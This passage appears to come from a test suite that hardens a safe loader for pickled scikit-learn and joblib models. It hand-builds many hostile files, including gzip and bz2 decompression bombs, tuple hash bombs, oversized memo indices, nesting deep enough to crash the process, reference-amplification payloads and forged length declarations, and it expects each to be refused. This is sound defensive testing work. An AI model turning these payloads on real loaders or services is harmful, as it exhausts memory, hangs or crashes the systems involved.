    ``class_weight``, moved to the end of its state); refused by the dry
    run."""
    del model.__dict__["class_weight"]
    model.__dict__["class_weight"] = _Dropped(write)
    out = io.BytesIO()
    _TreeStatePickler(out, dict(zip(map(id, trees), states, strict=True))).dump(model)
    dry_run_attack(corpus, atk, out.getvalue())


@attack("inner-trees-the-memo-alone-keeps", 5, "300 trees restored, then dropped")
def _(corpus: Corpus, atk: Attack) -> None:
    # Restored, memoized, dropped from the stack: each copied one tree's
    # nodes, and the size of what the model rebuilds, measured from its
    # root at the end, did not see them (1,000: 1.85 GB from 1.8 MB, round
    # 125).
    model, trees, states = _trees_over_one_state(300)

    def restore_and_drop(pickler: Any) -> None:
        for tree in trees:
            pickler.save(tree)
            pickler.write(POP)

    _written_after_its_fit(corpus, atk, model, restore_and_drop, trees, states)


@attack("inner-tree-states-emptied", 5, "300 trees' states emptied after their restore")
def _(corpus: Corpus, atk: Attack) -> None:
    # A forest whose trees each restore one tree's nodes, their state dicts
    # then emptied: measured at the end, the states held nothing (1,000
    # trees: 1.86 GB from 2 MB, round 125).
    model, trees, states = _trees_over_one_state(300)
    forest = RandomForestClassifier(n_estimators=1).fit([[0.0], [1.0]], [0, 1])
    forest.estimators_ = []
    for tree in trees:
        member = copy.copy(model)
        member.tree_ = tree
        forest.estimators_.append(member)
    forest.n_estimators = len(trees)

    def empty(pickler: Any) -> None:
        for state in states:
            pickler.save(state)  # a memo reference
            pickler.write(MARK)
            for key in ("nodes", "values"):
                pickler.save(key)
                pickler.save(None)
            pickler.write(b"u" + POP)  # SETITEMS

    _written_after_its_fit(corpus, atk, forest, empty, trees, states)


def _made_and_dropped(
    corpus: Corpus,
    atk: Attack,
    count: int,
    function: Any,
    args: tuple[Any, ...],
    state: Callable[[], Any] = lambda: None,
) -> None:
    """An honest model whose pickle also makes ``count`` values by
    ``function(*args)`` (each given a ``state()`` of its own), each dropped
    at once: nothing keeps them, but the real unpickle makes each (round
    127)."""
    model = LogisticRegression().fit(*corpus.iris)

    def make_and_drop(pickler: Any) -> None:
        for _ in range(count):
            pickler.save_reduce(function, args, state())
            pickler.write(POP)

    _written_after_its_fit(corpus, atk, model, make_and_drop)


class _Written:
    """A value whose pickle is ``write(pickler)``'s opcodes, which push it."""

    def __init__(self, write: Callable[[Any], None]) -> None:
        self.write = write


def _in_a_fitted_attribute(
    corpus: Corpus, atk: Attack, write: Callable[[Any], None]
) -> None:
    """The corpus's small model with one more fitted attribute, ``zz_``,
    whose value is ``write``'s opcodes; refused by the scan or dry run."""
    model = copy.copy(corpus.small_model.estimator_)
    model.zz_ = _Written(write)
    out = io.BytesIO()
    _TreeStatePickler(out, {}).dump(model)
    dry_run_attack(corpus, atk, out.getvalue())


def _refused_by_the_walk(atk: Attack) -> None:
    """``load`` must refuse the file once it is unpickled, by the walk of
    what it holds, within 10 s and 512 MiB."""
    atk.raises = {"load": {"UntrustedGlobalError"}}
    atk.entries = ("load",)
    atk.max_seconds = 10.0
    atk.max_peak = 512 * MIB


@attack("inner-empty-sets", 5, "400,000 empty sets in a fitted attribute")
def _(corpus: Corpus, atk: Attack) -> None:
    # A byte each, made by the C unpickler with nothing to charge, then
    # about 15 us each to the walk and the fitted-state checks: 1.95 million
    # loaded in 22 s and 1.5 GB from 2 MB (round 140).
    def empty_sets(pickler: Any) -> None:
        pickler.write(EMPTY_LIST)
        for _ in range(400):
            pickler.write(MARK + b"\x8f" * 1_000 + APPENDS)

    _in_a_fitted_attribute(corpus, atk, empty_sets)


@attack("inner-shared-scalar-list", 5, "800 attributes over one list of 20,000 scalars")
def _(corpus: Corpus, atk: Attack) -> None:
    # One numpy number referenced 20,000 times (2 bytes each) in one list,
    # the list held by 800 attributes (a reference each): numbers weighed
    # nothing in the expansion bound, and the fitted-state checks read the
    # list once an attribute (past 60 s from 7 KB compressed, round 141).
    model = copy.copy(corpus.small_model.estimator_)
    shared = [np.float32(1.5)] * 20_000
    for i in range(800):
        setattr(model, f"zz{i}_", shared)
    inner_attack(corpus, atk, pickle.dumps(model, protocol=5), control=None)
    _refused_by_the_walk(atk)


@attack("inner-one-array-many-names", 5, "one array of 65,536 values, 40,000 names")
def _(corpus: Corpus, atk: Attack) -> None:
    # Each name was a reference the walk judged the array's values at, about
    # 80 us from 9 bytes: 60,000 names took 5 s from 142 KB compressed, 180
    # times an honest model of its size (round 143). Judged once now.
    model = copy.copy(corpus.small_model.estimator_)
    shared = np.ones(65_536, np.float32)
    for i in range(40_000):
        setattr(model, f"q{i}_", shared)
    model.pad_ = [None] * 6_000  # pays the expansion bound
    inner_attack(corpus, atk, pickle.dumps(model, protocol=5), control=None)
    atk.raises = {}  # what matters is the time the checks take
    atk.entries = ("load",)
    atk.max_seconds = 2.0
    atk.max_peak = 512 * MIB


@attack("inner-references-one-list", 5, "600,000 references to one empty list")
def _(corpus: Corpus, atk: Attack) -> None:
    # A memo reference is 2 to 5 bytes of stream, and cost the walk and the
    # checks after it about 2 us (a list is read by its items): 3 million
    # to one empty list took 12 s (round 141). The walk counts objects met
    # again: at most the slack and one every 16 bytes of stream.
    model = copy.copy(corpus.small_model.estimator_)
    model.zz_ = [[]] * 600_000
    inner_attack(corpus, atk, pickle.dumps(model, protocol=5), control=None)
    _refused_by_the_walk(atk)


@attack(
    "inner-compressed-references", 5, "200,000 references and 4 MB of None, gzipped"
)
def _(corpus: Corpus, atk: Attack) -> None:
    # Padding that compresses to nothing pays the stream's share, so a
    # compressed file may refer again at most once a compressed byte past
    # the slack: 3 million references from 267 KB compressed, 6.5 times an
    # honest load of that size (round 141).
    model = copy.copy(corpus.small_model.estimator_)
    model.zz_ = [[]] * 200_000
    model.pad_ = [None] * 4_000_000
    inner_attack(corpus, atk, pickle.dumps(model, protocol=5), control=None)
    _refused_by_the_walk(atk)
    assert atk.path is not None
    atk.path.write_bytes(gzip.compress(atk.path.read_bytes()))


def _tree_of_text_labels(corpus: Corpus, atk: Attack, labels: list[str]) -> None:
    """A fitted tree whose one output's labels are ``labels``, a list (a
    check reading them as an array makes each as wide as the longest)."""
    X, y = corpus.iris
    tree = DecisionTreeClassifier(max_depth=2, random_state=0).fit(X, y)
    base = parts_of(ve.VersionedEstimator.wrap(tree, probe=X[:3]))
    tree.classes_ = [labels]
    tree.n_classes_ = np.array([len(labels)])
    inner_attack(corpus, atk, pickle.dumps(tree, protocol=5), base=base, control=None)
    _refused_by_the_walk(atk)


@attack(
    "inner-one-label-many-references", 5, "one label of 1,024 characters, 300,000 times"
)
def _(corpus: Corpus, atk: Attack) -> None:
    # Text is a plain value, so its references are not objects met again: a
    # check's np.asarray of the list made 650,000 labels of 4 KiB, 2.7 GB
    # from 36 KB compressed (round 149).
    _tree_of_text_labels(corpus, atk, ["x" * 1_024] * 300_000)


@attack("inner-one-long-label-among-short", 5, "one label of 1,024 among 300,000 short")
def _(corpus: Corpus, atk: Attack) -> None:
    # The same width from distinct labels: each short one, a few bytes of
    # stream, becomes 4 KiB as an array beside the long one.
    _tree_of_text_labels(corpus, atk, ["x" * 1_024, *map(str, range(300_000))])


@attack("inner-nested-text-lists", 5, "one list of 16,000 long texts, 32 times in one")
def _(corpus: Corpus, atk: Attack) -> None:
    # Each list's text was counted when the list was first opened, not at
    # each reference to it: a kernel's length scale of one list of 16,000
    # texts of 1,024 characters, held 32 times (plain padding paying the
    # expansion bound), became a (32, 16000) array of 2.1 GB in a check,
    # from 384 KB compressed (round 157).
    from sklearn.gaussian_process import GaussianProcessRegressor
    from sklearn.gaussian_process.kernels import RBF

    X, y = corpus.iris
    model = GaussianProcessRegressor(kernel=RBF()).fit(X[:40], y[:40])
    base = parts_of(ve.VersionedEstimator.wrap(model, probe=X[:3]))
    texts = ["L" * 1_024] * 16_000
    model.kernel.length_scale = [texts] * 32
    model.kernel.length_scale_bounds = [1] * 140_000
    inner_attack(corpus, atk, pickle.dumps(model, protocol=5), base=base, control=None)
    _refused_by_the_walk(atk)


def _encoder_of_shared_categories(
    corpus: Corpus, atk: Attack, features: int, categories: list[Any], padding: int = 0
) -> None:
    """A one-hot encoder fitted on ``features`` columns of the same
    ``categories`` objects: each column's categories an object array of
    them (the memo writes each text once, each use after a reference of a
    few bytes); with ``padding``, one more column of as many short labels
    of its own (weight that pays the expansion bound)."""
    X = np.empty((max(len(categories), padding), features + bool(padding)), object)
    for j in range(features):
        column = categories[j % len(categories) :] + categories[: j % len(categories)]
        X[:, j] = (column * (len(X) // len(column) + 1))[: len(X)]
    if padding:
        X[:, features] = [f"p{i}" for i in range(padding)]
    encoder = OneHotEncoder(handle_unknown="ignore").fit(X)
    base = parts_of(ve.VersionedEstimator.wrap(encoder, probe=X[:1]))
    inner_attack(
        corpus, atk, pickle.dumps(encoder, protocol=5), base=base, control=None
    )
    _refused_by_the_walk(atk)


@attack("inner-shared-long-categories", 5, "600 features of the same 100 long texts")
def _(corpus: Corpus, atk: Attack) -> None:
    # Text in object arrays was counted by no text bound, and a text held by
    # many arrays is written once: 2,600 features' categories, each the
    # same 1,000 texts of 1,024 characters, and get_feature_names_out made
    # 2.6 million names, 2.8 GB from 12 MB (round 160).
    texts = [f"{i:04d}" + "c" * 1_020 for i in range(100)]
    _encoder_of_shared_categories(corpus, atk, 600, texts)


@attack("inner-shared-numpy-text", 5, "200 features of the same 100 long np.str_")
def _(corpus: Corpus, atk: Attack) -> None:
    # numpy's text scalars are numpy objects to the walk, and were no text
    # to its bounds: the same categories as np.str_, 1,800 features over
    # 1,000 of 1,000 characters, made 2.2 GB of names from 2 MB (round 162).
    texts = [np.str_(f"{i:04d}" + "c" * 1_020) for i in range(100)]
    _encoder_of_shared_categories(corpus, atk, 200, texts, padding=3_000)


@attack("inner-one-long-word", 5, "a vocabulary of 200,000 words and one of 1,024")
def _(corpus: Corpus, atk: Attack) -> None:
    # inverse_transform makes an array of the vocabulary's keys, each as
    # wide as the longest: 300,000 keys of 7 characters and one of 1,024
    # (which the analyzer could not make) took 2.5 GB from 1 MB (round 151).
    from sklearn.feature_extraction.text import CountVectorizer

    words = [f"w{i:06d}" for i in range(200_000)]
    docs = [" ".join(words[i : i + 100]) for i in range(0, len(words), 100)]
    vectorizer = CountVectorizer().fit(docs)
    base = parts_of(ve.VersionedEstimator.wrap(vectorizer, probe=docs[:2]))
    vocabulary = vectorizer.vocabulary_
    vocabulary["Z " * 512] = vocabulary.pop(words[0])
    inner_attack(
        corpus, atk, pickle.dumps(vectorizer, protocol=5), base=base, control=None
    )
    _refused_by_the_walk(atk)


@attack("inner-one-item-tuples", 5, "300,000 tuples of None, two bytes each")
def _(corpus: Corpus, atk: Attack) -> None:
    # The same class with containers that are not empty (round 140).
    def tuples(pickler: Any) -> None:
        pickler.write(EMPTY_LIST)
        for _ in range(300):
            pickler.write(MARK + (NONE + TUPLE1) * 1_000 + APPENDS)

    _in_a_fitted_attribute(corpus, atk, tuples)


@attack(
    "inner-dropped-swapped-arrays", 5, "600 byte-swapped arrays over one MiB, dropped"
)
def _(corpus: Corpus, atk: Attack) -> None:
    # numpy's restore copies a byte-swapped array's data: 2,000 over one
    # memoized MiB took 2.2 GB from 1.3 MB (round 127).
    reconstruct = np.ndarray.__reduce__(np.zeros(1))[0]
    data, swapped = bytes(1 << 20), np.dtype(">f8")

    def state() -> tuple[Any, ...]:
        return (1, (1 << 17,), swapped, False, data)  # one MiB, memoized once

    _made_and_dropped(corpus, atk, 600, reconstruct, (np.ndarray, (0,), b"b"), state)


@attack("inner-dropped-generators", 5, "100,000 random generators seeded, dropped")
def _(corpus: Corpus, atk: Attack) -> None:
    # Seeded from the system's entropy, 165 us each from 12 bytes of stream:
    # 400,000 kept a load past 60 s (round 127).
    from numpy.random._pickle import __bit_generator_ctor as ctor

    _made_and_dropped(corpus, atk, 100_000, ctor, ("MT19937",))


@attack(
    "inner-dropped-tree-constructors", 5, "150 trees of a million outputs, no state"
)
def _(corpus: Corpus, atk: Attack) -> None:
    # A tree's constructor copies its classes item by item, for each output,
    # before any state: 250 over one memoized array, 19.5 s and 2 GB from
    # 4.2 MB (round 127).
    from sklearn.tree._tree import Tree

    classes = np.ones(1_000_000, dtype=np.intp)
    _made_and_dropped(corpus, atk, 150, Tree, (1, classes, 1_000_000))


@attack("inner-dropped-ball-trees", 5, "200,000 ball trees made by newObj, dropped")
def _(corpus: Corpus, atk: Attack) -> None:
    # Five bytes of stream each, five arrays (3.2 KB) each in the real
    # unpickle: a million from 180 KB compressed asked 3 GB (round 129).
    from sklearn.neighbors._ball_tree import BallTree, newObj

    _made_and_dropped(corpus, atk, 200_000, newObj, (BallTree,))


@attack("inner-dropped-empty-states", 5, "100,000 estimators given an empty state")
def _(corpus: Corpus, atk: Attack) -> None:
    # Each restore warns of a release the state does not name (4.4 us from 6
    # bytes): a million took 7 times an honest load of the file's size
    # (round 129).
    import copyreg

    from sklearn.preprocessing import StandardScaler

    _made_and_dropped(
        corpus, atk, 100_000, copyreg.__newobj__, (StandardScaler,), lambda: {}
    )


@attack("inner-items-on-a-memo-only-bunch", 5, "200,000 items added to a dropped Bunch")
def _(corpus: Corpus, atk: Attack) -> None:
    # Two bytes of stream an item, each run through Python by the dry run and
    # kept for sizing, uncharged: ten million took 9 times an honest load of
    # the file's size and 5 times its memory (round 130).
    from sklearn.utils import Bunch

    model = LogisticRegression().fit(*corpus.iris)

    def items_then_drop(pickler: Any) -> None:
        pickler.save(Bunch())
        pickler.write((MARK + NONE * 2000 + b"u") * 200 + POP)  # SETITEMS

    _written_after_its_fit(corpus, atk, model, items_then_drop)


@attack("inner-tiny-arrays", 5, "150,000 one-item arrays in a list, 12 bytes each")
def _(corpus: Corpus, atk: Attack) -> None:
    # Each about 20 us to the safe path (dry run, unpickle, walk), 72 bytes
    # charged: 800,000 from 8 MB took 13.5 times an honest load of the
    # file's size and 5 times its memory (round 132).
    from numpy._core.numeric import _frombuffer  # type: ignore[attr-defined]

    model = LogisticRegression().fit(*corpus.iris)
    args = (bytes(8), np.dtype("f8"), (1,), "C")

    def listed_arrays(pickler: Any) -> None:
        pickler.write(EMPTY_LIST)
        for _ in range(150_000):
            pickler.save_reduce(_frombuffer, args)
            pickler.write(b"a" + (NONE + POP) * 3)  # APPEND, 12 bytes in all
        pickler.write(POP)

    _written_after_its_fit(corpus, atk, model, listed_arrays)


@attack("inner-stateless-estimators", 5, "20,000 estimators made in 4 bytes each")
def _(corpus: Corpus, atk: Attack) -> None:
    # NEWOBJ without a state: no restore runs, 64 bytes charged, and the
    # checks after the load spend about 100 us on each estimator; a million,
    # paid for by an honest model's 17 MB of arrays, took a load 51 s
    # (round 134).
    from sklearn.preprocessing import LabelEncoder

    model = LogisticRegression().fit(*corpus.iris)

    def stateless(pickler: Any) -> None:
        pickler.save(LabelEncoder)
        pickler.write(b")\x81" + POP)  # EMPTY_TUPLE, NEWOBJ
        index = pickler.memo[id(LabelEncoder)][0]
        get = b"h" + bytes([index]) if index < 256 else b"j" + struct.pack("<I", index)
        pickler.write((get + b")\x81" + POP) * 20_000)

    _written_after_its_fit(corpus, atk, model, stateless)


@attack("inner-compressed-tiny-arrays", 5, "300,000 one-item arrays, gzipped")
def _(corpus: Corpus, atk: Attack) -> None:
    # Each about 27 us to the safe path (dry run, unpickle, walk) from a few
    # bytes that compress a thousand times, and dropped padding of zeros
    # paying the budget: 16 opcodes a compressed byte made 3 arrays of it,
    # 80 s from 1 MB (round 132).
    from numpy._core.numeric import _frombuffer  # type: ignore[attr-defined]

    model = LogisticRegression().fit(*corpus.iris)
    args = (bytes(8), np.dtype("f8"), (1,), "C")

    # dropped padding: zeros for the budget, noise for the opcode bound
    noise = np.random.RandomState(0).bytes(72_000)

    def padded_arrays(pickler: Any) -> None:
        pickler.write(b"B" + struct.pack("<I", 8 << 20) + bytes(8 << 20) + POP)
        pickler.write(b"B" + struct.pack("<I", len(noise)) + noise + POP)
        for _ in range(300_000):
            pickler.save_reduce(_frombuffer, args)
            pickler.write(POP)

    _written_after_its_fit(corpus, atk, model, padded_arrays)
    assert atk.path is not None
    atk.path.write_bytes(gzip.compress(atk.path.read_bytes()))


@attack("inner-root-not-an-estimator", 5, "a payload whose pickle is None")
def _(corpus: Corpus, atk: Attack) -> None:
    # Loaded as a wrapper of nothing (round 102).
    inner_attack(corpus, atk, PROTO5 + NONE + STOP, control=None)
    atk.raises = {"load": {"EnvelopeError"}}
    atk.entries = ("load",)


@attack("buffers-compressed-records", 5, "100,000 empty buffers, gzipped to a few KB")
def _(corpus: Corpus, atk: Attack) -> None:
    # Buffer records cost the outer reader about 30 opcodes each; 200,000 of
    # them in 43 KB were read for 9 s (round 93).
    count = 100_000
    stream = PROTO5 + (b"\x97" + POP) * count + NONE + STOP
    buffers = [np.empty(0, dtype=np.uint8) for _ in range(count)]
    outer_attack(corpus, atk, stream=stream, buffers=buffers, compress="gzip")
    atk.entries = ("load", "audit", "cli audit", "cli verify")
    atk.max_seconds = 10.0


def _refused_by_the_reader(atk: Attack, max_peak: int | None = None) -> None:
    """``load``, ``audit`` and the CLI must refuse the file as they read it
    (an ``EnvelopeError``, exit status 2), within ``max_peak`` bytes."""
    atk.raises = {"load": {"EnvelopeError"}, "audit": {"EnvelopeError"}}
    atk.codes = {"cli audit": {2}, "cli verify": {2}}
    atk.entries = ("load", "audit", "cli audit", "cli verify")
    if max_peak is not None:
        atk.max_peak = max_peak


@attack("outer-compressed-stream-of-zeros", 5, "a stream of 256 MB of zeros, gzipped")
def _(corpus: Corpus, atk: Attack) -> None:
    # Within the ratio any compressed part may inflate by (zeros: about
    # 1,030), then copied once read: 1.2 GB of zeros in 1.17 MB of gzip
    # took 2.4 GB before the scan refused them (round 150). A stream may
    # inflate 256 times past 64 MB; arrays, not the stream, hold zeros.
    inner_attack(corpus, atk, PROTO5 + bytes(256 << 20), control=None)
    assert atk.path is not None
    atk.path.write_bytes(gzip.compress(atk.path.read_bytes(), compresslevel=9))
    _refused_by_the_reader(atk, 256 * MIB)


@attack("outer-compressed-bytearray-stream", 5, "a stream as a bytearray, 320 MB")
def _(corpus: Corpus, atk: Attack) -> None:
    # A bytearray opcode's value is an array's data, which may inflate as an
    # array may: written so, a stream of 1 GB of zeros escaped its own bound
    # and was copied once read, 2 GB from 974 KB (round 154). Refused as a
    # stream; read once, as an array of that size would be.
    stream = bytearray(PROTO5 + bytes(320 << 20))  # pickled with BYTEARRAY8
    atk.path = corpus.folder(atk.name) / "model.pkl"
    data = pickle.dumps(assemble(corpus.small, stream=stream, buffers=[]), protocol=5)
    atk.path.write_bytes(gzip.compress(data, compresslevel=9))
    _refused_by_the_reader(atk, 480 * MIB)


class _SharedData:
    """An array rebuilt by numpy's ``_frombuffer`` over ``data``, which the
    pickler memoizes: every such array after the first refers to it."""

    def __init__(self, data: bytes) -> None:
        self.data = data

    def __reduce_ex__(self, protocol: Any) -> Any:
        from numpy._core.numeric import _frombuffer  # type: ignore[attr-defined]

        return (_frombuffer, (self.data, np.dtype("u1"), (len(self.data),), "C"))


@attack("outer-shared-array-data", 5, "200 buffers over one MiB of data")
def _(corpus: Corpus, atk: Attack) -> None:
    # Each buffer copied, or hashed, the one memoized value: 20 over 64 MiB
    # took 1.5 GB, 4,000 past 60 s, from 68 KB (round 156). No writer gives
    # two arrays one value as their data.
    shared = bytes(range(256)) * 4_096
    count = 200
    reduced = assemble(
        corpus.small, buffers=[np.frombuffer(shared, np.uint8)] * count
    ).reduced
    head, stream, _, trailer = reduced[1]
    arrays = [_SharedData(shared) for _ in range(count)]  # one value, memoized
    forged = Reduced((reduced[0], (head, stream, arrays, trailer)))
    atk.path = corpus.folder(atk.name) / "model.pkl"
    atk.path.write_bytes(pickle.dumps(forged, protocol=5))
    _refused_by_the_reader(atk)


def _beside_the_stream(corpus: Corpus, atk: Attack, value: bytes) -> None:
    """300 copies of the opcodes ``value`` under a MARK after the stream,
    popped, gzipped: each within its own bound, none in the model."""
    stream = corpus.small.stream
    ops = (
        pickle.BINBYTES + struct.pack("<I", len(stream)) + stream + pickle.MARK
        + value * 300 + pickle.POP_MARK
    )  # fmt: skip
    outer_attack(corpus, atk, stream=Hole(0), holes={0: ops}, compress="gzip")
    atk.entries = ("load", "audit", "cli audit", "cli verify")
    atk.max_peak = 256 * MIB


@attack("outer-compressed-many-texts", 5, "300 texts of 1 MB by the stream, gzipped")
def _(corpus: Corpus, atk: Attack) -> None:
    # Each value of a compressed file had its own bound, none a bound in
    # all: 500 texts of 1 MiB (one emoji each: four bytes a character)
    # under a MARK held 2.15 GB from 516 KB (round 158).
    text = ("a" * 999_995 + "\U0001f600").encode()
    _beside_the_stream(
        corpus, atk, pickle.BINUNICODE + struct.pack("<I", len(text)) + text
    )


@attack("outer-compressed-many-text-lines", 5, "300 text lines of 1 MB, gzipped")
def _(corpus: Corpus, atk: Attack) -> None:
    # The same values as protocol 0 writes text: a line each.
    _beside_the_stream(corpus, atk, b"V" + b"a" * 1_000_000 + b"\n")


@attack("outer-compressed-spare-array-data", 5, "300 bytearrays of 1 MB, gzipped")
def _(corpus: Corpus, atk: Attack) -> None:
    # Array data may inflate as arrays may, but only as much as the
    # envelope declares: 1,500 bytearrays of 1 MiB no buffer took held
    # 1.6 GB from 1.5 MB (round 158).
    _beside_the_stream(
        corpus, atk, pickle.BYTEARRAY8 + struct.pack("<Q", 1 << 20) + bytes(1 << 20)
    )


def _after_the_stream(
    corpus: Corpus, atk: Attack, ops: bytes, compress: str | None = None
) -> None:
    """The opcodes ``ops`` after the stream (the stream left on the stack
    for the loader): values, and calls of the outer pickle's own globals,
    that no model holds."""
    stream = corpus.small.stream
    before = pickle.BINBYTES + struct.pack("<I", len(stream)) + stream
    outer_attack(
        corpus, atk, stream=Hole(0), holes={0: before + ops}, compress=compress
    )
    atk.entries = ("load", "audit", "cli audit", "cli verify")
    atk.max_peak = 256 * MIB


@attack("outer-one-text-encoded-often", 5, "one text of 1 MiB encoded 600 times")
def _(corpus: Corpus, atk: Attack) -> None:
    # Protocols 0 to 2 write bytes as _codecs.encode(text, "latin1"), and
    # each call copied its text: one memoized text of 1 MiB encoded 2,400
    # times held 2.5 GB from 3.7 KB (round 159). Uncompressed here: the
    # copies are not the file's bytes either.
    encode = b"c_codecs\nencode\n" + pickle.BINGET + b"\x00"
    call = encode + text("latin1") + pickle.TUPLE2 + pickle.REDUCE
    one = text("a" * (1 << 20)) + pickle.BINPUT + b"\x00" + pickle.POP
    _after_the_stream(corpus, atk, one + pickle.MARK + call * 600 + pickle.POP_MARK)


@attack("outer-one-trailer-many-loads", 5, "200 loader calls on one trailer")
def _(corpus: Corpus, atk: Attack) -> None:
    # The loader's call on a trailer checks it whole, and a file could call
    # it again on one memoized trailer for a few bytes: 200,000 calls on a
    # list of 50,000 items took past 60 s from 4.4 KB (round 159).
    trailer = (
        pickle.EMPTY_DICT + text("k") + pickle.EMPTY_LIST + pickle.MARK
        + pickle.NONE * 50_000 + pickle.APPENDS + pickle.SETITEM
        + pickle.BINPUT + b"\x00" + pickle.POP
    )  # fmt: skip
    call = (
        b"cversioned_estimator\n_rebuild\n" + pickle.BINGET + b"\x00"
        + pickle.TUPLE1 + pickle.REDUCE
    )  # fmt: skip
    _after_the_stream(corpus, atk, trailer + pickle.MARK + call * 200 + pickle.POP_MARK)


@attack("outer-compressed-long-integers", 5, "300,000 integers of 1 KB, gzipped")
def _(corpus: Corpus, atk: Attack) -> None:
    # Integers were no values the bound on a compressed file's values
    # counted: 2.4 million of 1 KB in lists took 2.8 GB from 5.5 MB (round
    # 159).
    number = pickle.LONG4 + struct.pack("<i", 1024) + bytes(1023) + b"\x01"
    ops = pickle.EMPTY_LIST + (pickle.MARK + number * 1000 + pickle.APPENDS) * 300
    _after_the_stream(corpus, atk, ops + pickle.POP, compress="gzip")


@attack("outer-compressed-long-text", 5, "a trailer text of 256 MB, gzipped")
def _(corpus: Corpus, atk: Attack) -> None:
    # Every value but an array is copied or decoded once read: a text of
    # 1,000 MiB in the trailer (the declared stream widened so the length
    # passed) took 2.2 GB from 1 MB, and audit said ok (round 152).
    size = 256 << 20

    def widen(e: dict[str, Any]) -> None:
        e["payload"]["stream"]["nbytes"] += size
        e["payload"]["nbytes"] += size

    atk.path = write(
        corpus.folder(atk.name) / "model.joblib",
        assemble(
            corpus.small,
            envelope=widen,
            trailer=lambda t: t.update(x="a" * size),
            recompute=False,
        ),
    )
    atk.path.write_bytes(gzip.compress(atk.path.read_bytes(), compresslevel=9))
    _refused_by_the_reader(atk, 256 * MIB)


@attack("feature-name-padding", 7, "one feature name of 3 million characters")
def _(corpus: Corpus, atk: Attack) -> None:
    # inspect padded the other 19 names shown to it: 300 MB (round 93).
    def envelope(e: dict[str, Any]) -> None:
        e["schema"]["feature_names_in"] = ["a" * 3_000_000] + [
            f"f{i}" for i in range(19)
        ]
        e["schema"]["dtypes"] = ["float64"] * 20
        e["schema"]["n_features_in"] = 20

    atk.path = write(
        corpus.folder(atk.name) / "model.joblib",
        assemble(corpus.small, envelope=envelope),
    )
    atk.entries = HEAD
    atk.check = output_in_proportion(atk)


@attack("inner-dict-key-hash-bomb", 5, "an inner dict key of 2**60 shared tuples")
def _(corpus: Corpus, atk: Attack) -> None:
    stream = PROTO5 + EMPTY_DICT + tuple_bomb(60) + integer(1) + SETITEM + STOP
    inner_attack(corpus, atk, stream, control="hang")
    atk.control = Control("hang", STREAM_CONTROL, CONTROL_HANG)


@attack("inner-deep-dict-key", 5, "an inner dict key 1,000,000 tuples deep (SIGSEGV)")
def _(corpus: Corpus, atk: Attack) -> None:
    stream = PROTO5 + EMPTY_DICT + NONE + TUPLE1 * 1_000_000 + integer(1) + SETITEM
    inner_attack(corpus, atk, stream + STOP, control="crash")


@attack("inner-dtype-args-bomb", 5, "numpy.dtype called with a 2**60 tuple bomb")
def _(corpus: Corpus, atk: Attack) -> None:
    stream = PROTO5 + glob("numpy", "dtype") + tuple_bomb(60) + TUPLE1 + REDUCE + STOP
    inner_attack(corpus, atk, stream, control=None, violation=True)


@attack("inner-huge-memo-index", 5, "LONG_BINPUT 2**28 in the inner stream (4 GB)")
def _(corpus: Corpus, atk: Attack) -> None:
    stream = PROTO5 + NONE + put(2**28) + STOP
    inner_attack(corpus, atk, stream, control="memory")
    atk.raises = {"load": {"UntrustedGlobalError"}}


@attack("inner-memo-index-1gib", 5, "LONG_BINPUT 2**26 in the inner stream (1 GiB)")
def _(corpus: Corpus, atk: Attack) -> None:
    # Small enough that the C unpickler's memo (2**27 pointers) fits the limit:
    # a reader that runs it anyway shows as resident memory, not MemoryError.
    stream = PROTO5 + NONE + put(2**26) + STOP
    inner_attack(corpus, atk, stream, control=None)
    atk.raises = {"load": {"UntrustedGlobalError"}}


@attack("compressed-declared-length", 5, "a gzip file declaring a 1 GiB stream")
def _(corpus: Corpus, atk: Attack) -> None:
    declared = 1024 * MIB

    def envelope(e: dict[str, Any]) -> None:
        e["payload"]["stream"] = {"nbytes": declared}
        e["payload"]["nbytes"] = declared

    data = dumps_fast(
        assemble(corpus.small, envelope=envelope, stream=Hole(0), recompute=False)
    )
    head = data.split(dumps_fast(Hole(0))[2:-1])[0]
    body = head + b"\x8e" + struct.pack("<Q", declared) + bytes(4096)
    atk.path = corpus.folder(atk.name) / "model.joblib.gz"
    atk.path.write_bytes(gzip.compress(body))
    atk.raises = {"load": {"EnvelopeError"}, "audit": {"EnvelopeError"}}
    atk.codes = {"cli audit": {2}, "cli verify": {2}}


@attack("uncompressed-declared-length", 5, "a plain file declaring a 1 GiB stream")
def _(corpus: Corpus, atk: Attack) -> None:
    declared = 1024 * MIB

    def envelope(e: dict[str, Any]) -> None:
        e["payload"]["stream"] = {"nbytes": declared}

    data = dumps_fast(
        assemble(corpus.small, envelope=envelope, stream=Hole(0), recompute=False)
    )
    head = data.split(dumps_fast(Hole(0))[2:-1])[0]
    atk.path = corpus.folder(atk.name) / "model.pkl"
    atk.path.write_bytes(head + b"\x8e" + struct.pack("<Q", declared) + bytes(4096))
    atk.raises = {"load": {"EnvelopeError"}, "audit": {"EnvelopeError"}}
    atk.codes = {"cli audit": {2}, "cli verify": {2}}


@attack("bz2-bomb-in-buffer", 5, "a bz2 joblib file whose buffer inflates to 96 MiB")
def _(corpus: Corpus, atk: Attack) -> None:
    X = np.full((8192, 1), 0.5)
    model = ve.VersionedEstimator(KNeighborsClassifier(algorithm="brute"))
    model.fit(X, np.arange(8192) % 2)
    buffer = io.BytesIO()
    joblib.dump(model, buffer)
    data = buffer.getvalue()
    content = X.tobytes()
    start = data.find(content)
    assert start > 0
    assert len(content) == 65536
    size = 96 * MIB  # beyond what the reader inflates from a file of 3 KB
    small, big = b"J" + struct.pack("<i", 65536), b"J" + struct.pack("<i", size)
    prefix = data[:start]
    assert prefix.count(small) >= 2
    compressor = bz2.BZ2Compressor(9)
    out = [compressor.compress(prefix.replace(small, big))]
    zeros = bytes(16 * MIB)
    out += [compressor.compress(zeros) for _ in range(size // len(zeros))]
    out += [compressor.compress(data[start + len(content) :]), compressor.flush()]
    atk.path = corpus.folder(atk.name) / "model.joblib.bz2"
    atk.path.write_bytes(b"".join(out))
    atk.raises = {"load": {"EnvelopeError"}, "audit": {"EnvelopeError"}}
    atk.codes = {"cli audit": {2}, "cli verify": {2}}
    atk.control = Control(
        "check",
        "import bz2\nvalue = len(bz2.decompress(open(path, 'rb').read())) > 90 << 20\n",
    )


@attack("fifo-path", 5, "a FIFO given as the model path")
def _(corpus: Corpus, atk: Attack) -> None:
    atk.path = corpus.folder(atk.name) / "model.fifo"
    os.mkfifo(atk.path)
    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}
    atk.max_seconds = 10.0
